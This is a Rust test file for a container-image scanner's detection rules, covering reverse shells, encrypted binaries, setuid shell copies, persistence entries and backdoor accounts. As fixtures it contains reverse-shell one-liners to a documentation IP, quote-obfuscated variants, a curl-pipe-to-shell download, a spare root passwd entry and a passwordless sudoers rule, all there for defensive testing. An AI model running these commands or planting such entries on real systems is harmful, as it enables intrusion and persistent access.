use std::collections::BTreeSet;

use proptest::prelude::*;
use seaworthy_core::{ImagePath, StarterKind};

use super::*;

fn facts<'a>(path: &'a ImagePath, mode: u32, content: &[u8]) -> FileFacts<'a> {
    FileFacts {
        path,
        inside: None,
        mode,
        uid: 0,
        gid: 0,
        size: content.len() as u64,
    }
}

fn evidence(path: &str, mode: u32, content: &[u8]) -> Vec<EvidenceItem> {
    let path = ImagePath::new(path);
    let mut out = Vec::new();
    examine(&facts(&path, mode, content), content, &mut out);
    out
}

fn rules_of(path: &str, mode: u32, content: &[u8]) -> BTreeSet<String> {
    evidence(path, mode, content)
        .into_iter()
        .filter_map(|item| match item {
            EvidenceItem::Suspicion(suspicion) => Some(suspicion.rule),
            _ => None,
        })
        .collect()
}

fn starts(path: &str, content: &str) -> Option<(StarterKind, Vec<String>)> {
    evidence(path, 0o755, content.as_bytes())
        .into_iter()
        .find_map(|item| match item {
            EvidenceItem::Starter(starter) => Some((
                starter.kind,
                starter.starts.iter().map(ToString::to_string).collect(),
            )),
            _ => None,
        })
}

#[test]
fn every_rule_tells_its_id_once_with_a_reference_and_a_technique() {
    let ids: BTreeSet<&str> = RULES.iter().map(|rule| rule.meta.id).collect();
    assert_eq!(ids.len(), RULES.len());
    for rule in RULES {
        assert!(rule.attack.starts_with('T'), "{}", rule.meta.id);
        assert!(!rule.advice.is_empty() && !rule.meta.summary.ends_with('.'));
        assert!(
            rule.meta
                .references
                .iter()
                .all(|reference| reference.starts_with("https://")),
            "{}",
            rule.meta.id
        );
    }
}

#[test]
fn every_rule_speaks_about_its_positive_samples_and_is_silent_about_the_others() {
    let mut wrong = Vec::new();
    for rule in RULES {
        for (samples, expected) in [(rule.positive, true), (rule.negative, false)] {
            for sample in samples {
                if let Sample::File {
                    path,
                    mode,
                    content,
                } = sample
                {
                    let found = rules_of(path, *mode, content);
                    if found.contains(rule.meta.id) != expected {
                        wrong.push(format!(
                            "{}: {} in {path}: {:?} gave {found:?}",
                            rule.meta.id,
                            if expected { "silent" } else { "speaks" },
                            String::from_utf8_lossy(content),
                        ));
                    }
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_file_rule_has_samples_of_both_kinds() {
    for rule in RULES.iter().filter(|rule| rule.scope == Scope::File) {
        assert!(!rule.negative.is_empty(), "{}", rule.meta.id);
        assert!(
            !rule.positive.is_empty() || rule.meta.id == elf::ENCRYPTED.meta.id,
            "{}",
            rule.meta.id
        );
    }
}

#[test]
fn code_of_random_bytes_without_sections_is_encrypted() {
    // Program header: one executable segment of 64 KiB behind the headers.
    let mut bytes = rule::PROGRAM.to_vec();
    bytes[40..48].copy_from_slice(&[0; 8]);
    bytes[56] = 1;
    bytes[60] = 0;
    let len = 64_u64 << 10;
    bytes.extend([1, 0, 0, 0, 5, 0, 0, 0]);
    for word in [120, 0x40_0000, 0x40_0000, len, len, 0x1000] {
        bytes.extend_from_slice(&u64::to_le_bytes(word));
    }
    let plain = [bytes.clone(), b"mov eax, ebx; ".repeat(5000)].concat();
    let mut state = 1_u64;
    bytes.extend((0..len).map(|_| {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        state.to_be_bytes()[0]
    }));
    assert!(rules_of("opt/x", 0o755, &bytes).contains("encrypted-program"));
    assert!(!rules_of("opt/x", 0o755, &plain).contains("encrypted-program"));
    // Cut off, the sections may be in what is missing.
    let path = ImagePath::new("opt/x");
    let mut file = facts(&path, 0o755, &bytes);
    file.size += 1;
    let mut out = Vec::new();
    examine(&file, &bytes, &mut out);
    assert!(
        !out.iter()
            .any(|item| matches!(item, EvidenceItem::Suspicion(_)))
    );
}

#[test]
fn a_copied_shell_is_known_by_its_code_whatever_its_name() {
    let bytes = [rule::PROGRAM, b"..@(#)Bash version 5.2.."].concat();
    assert!(rules_of("usr/lib/.cache-x", 0o4755, &bytes).contains("setuid-shell"));
    assert!(!rules_of("usr/lib/x", 0o755, &bytes).contains("setuid-shell"));
}

#[test]
fn starters_name_what_they_start() {
    let check = |path: &str, content: &str, kind: StarterKind, expected: &[&str]| {
        let (found, names) = starts(path, content).unwrap_or_else(|| panic!("{path}"));
        assert_eq!(found, kind, "{path}");
        for name in expected {
            assert!(
                names.iter().any(|known| known == name),
                "{path}: {name} not in {names:?}"
            );
        }
    };
    check(
        "etc/cron.d/x",
        "MAILTO=\"\"\n*/5 * * * * root /opt/.x/run >/dev/null\n@reboot root bot\n",
        StarterKind::Cron,
        &["/opt/.x/run", "bot"],
    );
    check(
        "etc/crontabs/root",
        "0 2 * * * run-parts /etc/periodic/daily\n",
        StarterKind::Cron,
        &["run-parts", "/etc/periodic/daily"],
    );
    check(
        "etc/systemd/system/x.service",
        "[Service]\nExecStartPre=-/bin/true\nExecStart=@/opt/x x --y\n",
        StarterKind::Systemd,
        &["/bin/true", "/opt/x"],
    );
    check(
        "etc/ld.so.preload",
        "/usr/lib/libx.so /a.so:/b.so # c\n",
        StarterKind::Loader,
        &["/usr/lib/libx.so", "/a.so", "/b.so"],
    );
    check(
        "root/.bashrc",
        "[ -f /opt/y ] && . /opt/y\n",
        StarterKind::ShellProfile,
        &["/opt/y"],
    );
    check(
        "etc/pam.d/sshd",
        "auth required pam_evil.so\n",
        StarterKind::Pam,
        &["pam_evil.so"],
    );
    check(
        "docker-entrypoint.sh",
        "#!/bin/sh\nexec python3 worker.py /srv/conf\n",
        StarterKind::Script,
        &["python3", "worker.py", "/srv/conf"],
    );
    check(
        "app/node_modules/a/package.json",
        r#"{"scripts":{"postinstall":"node ./setup.js"}}"#,
        StarterKind::PackageHook,
        &["node", "./setup.js"],
    );
    check(
        "usr/lib/python3/x.pth",
        "import evil_start\n",
        StarterKind::Interpreter,
        &["evil_start"],
    );
    check(
        "etc/modules",
        "# x\nrootkit\n",
        StarterKind::KernelModules,
        &["rootkit"],
    );
    check(
        "etc/inittab",
        "::respawn:/sbin/getty 38400 tty1\n",
        StarterKind::Init,
        &["/sbin/getty"],
    );
    check(
        "etc/supervisor/conf.d/a.conf",
        "[program:a]\ncommand=/opt/a --x\n",
        StarterKind::Init,
        &["/opt/a"],
    );
    assert_eq!(starts("app/notes.txt", "/opt/x\n"), None);
}

#[test]
fn values_of_secrets_do_not_get_into_starters() {
    let (_, names) = starts(
        "etc/cron.d/x",
        "* * * * * root PASSWORD=hunter2 /opt/x --token=abc123secret -p 'S3cr3t!'\n",
    )
    .unwrap();
    assert_eq!(names, ["/opt/x"]);
}

#[test]
fn digests_are_wanted_for_what_runs_where_packages_install() {
    let wants = |path: &str, mode, head: &[u8]| {
        let path = ImagePath::new(path);
        wants_digests(&facts(&path, mode, head), head)
    };
    assert_eq!(
        wants("usr/bin/x", 0o755, rule::PROGRAM),
        Some(ExecutableKind::Program)
    );
    assert_eq!(
        wants("usr/bin/x", 0o755, b"#!/bin/sh\n"),
        Some(ExecutableKind::Script)
    );
    assert_eq!(
        wants("usr/lib/python3/a.py", 0o644, b"x = 1"),
        Some(ExecutableKind::Other)
    );
    assert_eq!(wants("usr/share/doc/x", 0o644, b"text"), None);
    assert_eq!(wants("opt/x", 0o755, rule::PROGRAM), None);
    // The latter is told of without digests.
    assert!(evidence("opt/x", 0o755, rule::PROGRAM).iter().any(|item| matches!(
        item,
        EvidenceItem::Executable(executable) if executable.digests.is_empty() && executable.kind == ExecutableKind::Program
    )));
}

#[test]
fn files_inside_archives_are_judged_by_content_alone() {
    let path = ImagePath::new("tmp/x.tar");
    let content = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/1 0>&1\n";
    let mut file = facts(&path, 0o755, content);
    file.inside = Some("x.tar!/run.sh");
    let mut out = Vec::new();
    examine(&file, content, &mut out);
    examine(&file, rule::PROGRAM, &mut out);
    let [EvidenceItem::Suspicion(suspicion)] = out.as_slice() else {
        panic!("{out:?}");
    };
    assert_eq!(suspicion.rule, "reverse-shell");
    assert_eq!(suspicion.inside.as_deref(), Some("x.tar!/run.sh"));
}

const PATHS: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/sudoers",
    "etc/ssh/sshd_config",
    "etc/pam.d/x",
    "etc/cron.d/x",
    "etc/crontab",
    "root/.bashrc",
    "root/.ssh/authorized_keys",
    "etc/systemd/system/x.service",
    "etc/inittab",
    "etc/apt/apt.conf.d/x",
    "x/package.json",
    "x/y.pth",
    "x/sitecustomize.py",
    "etc/ld.so.preload",
    "etc/ld.so.conf",
    "x/config.json",
    "x.sh",
    "x.php",
    "tmp/x",
    "lib/x.ko",
    "etc/supervisord.conf",
];

proptest! {
    #[test]
    fn no_bytes_end_the_rules(place in 0..PATHS.len(), mode: u32, bytes in proptest::collection::vec(any::<u8>(), 0..600), cut in 0_u64..9) {
        let path = ImagePath::new(PATHS[place]);
        for start in [&b""[..], b"\x7fELF\x02\x01", b"#!/bin/sh\ncurl ", b"{\"pools\": [", b"#!/usr/bin/perl\nstratum+tcp://"] {
            let content = [start, &bytes].concat();
            let mut file = facts(&path, mode, &content);
            file.size += cut;
            let mut out = Vec::new();
            examine(&file, &content, &mut out);
            wants_digests(&file, &content);
            wants_content(&file, &content);
        }
    }

    #[test]
    fn no_text_ends_the_rules(place in 0..PATHS.len(), text in "[-a-z0-9 \n|;&$(){}`'\"\\\\<>/#=:*,.\\[\\]]{0,300}") {
        let path = ImagePath::new(PATHS[place]);
        let content = format!("#!/bin/sh\ncurl {text}\nstratum+tcp://a.example\n");
        let mut out = Vec::new();
        examine(&facts(&path, 0o755, content.as_bytes()), content.as_bytes(), &mut out);
    }
}

#[test]
fn a_control_byte_does_not_hide_a_script_or_a_file_that_some_program_reads() {
    let shell = "#!/bin/bash\necho hi\n#\u{1}\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n";
    assert!(rules_of("opt/run", 0o755, shell.as_bytes()).contains("reverse-shell"));
    let nul = shell.replace('\u{1}', "\0");
    assert!(rules_of("opt/run", 0o755, nul.as_bytes()).contains("reverse-shell"));
    let padded = format!("#!/bin/bash\n#{}\n{shell}", "\u{1}".repeat(2000));
    assert!(rules_of("opt/run", 0o755, padded.as_bytes()).contains("reverse-shell"));
    // Without a first line of its own, a small share of such bytes.
    let bare = shell.replacen("#!/bin/bash\n", "", 1);
    assert!(rules_of("opt/run.sh", 0o755, bare.as_bytes()).contains("reverse-shell"));
    for (path, content, rule) in [
        (
            "etc/passwd",
            "toor:x:0:0::/root:/bin/sh\n",
            "second-root-account",
        ),
        ("etc/ld.so.preload", "/usr/lib/libx.so\n", "preload-file"),
        (
            "etc/sudoers.d/x",
            "www-data ALL=(ALL) NOPASSWD: ALL\n",
            "sudo-without-password",
        ),
    ] {
        for odd in ["#\u{1}\n", "#\u{1}\u{2}\u{3}\u{1}\u{2}\u{3}\n", "#\0\n"] {
            let content = format!("{odd}{content}");
            let found = rules_of(path, 0o644, content.as_bytes());
            assert!(found.contains(rule), "{path} {odd:?}: {found:?}");
        }
    }
}

#[test]
fn a_script_is_read_at_both_ends_however_much_stands_between_them() {
    let line = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n";
    let padding = "# padding\n".repeat(text::TEXT_CAP / 8);
    for (path, content) in [
        ("opt/run", format!("#!/bin/bash\n{line}{padding}")),
        ("opt/run", format!("#!/bin/bash\n{padding}{line}")),
        ("opt/run.sh", format!("{padding}{line}")),
    ] {
        let found = rules_of(path, 0o755, content.as_bytes());
        assert!(found.contains("reverse-shell"), "{path}: {found:?}");
    }
    let passwd = format!("{padding}toor:x:0:0::/root:/bin/sh\n");
    let evidence = evidence("etc/passwd", 0o644, passwd.as_bytes());
    let offset = evidence.into_iter().find_map(|item| match item {
        EvidenceItem::Suspicion(suspicion) => suspicion.offset,
        _ => None,
    });
    assert_eq!(offset, Some(padding.len() as u64));
}

#[test]
fn quotes_inside_words_hide_no_command() {
    for (line, rule) in [
        (
            r#"ba""sh -i >& /d""ev/t""cp/203.0.113.5/4444 0>&1"#,
            "reverse-shell",
        ),
        (
            r"b\ash -i >& /d\ev/t''cp/203.0.113.5/4444 0>&1",
            "reverse-shell",
        ),
        (r#"cu""rl -s http://203.0.113.5/x | s''h"#, "runs-download"),
    ] {
        let script = format!("#!/bin/sh\n{line}\n");
        let found = rules_of("opt/run", 0o755, script.as_bytes());
        assert!(found.contains(rule), "{line}: {found:?}");
    }
}
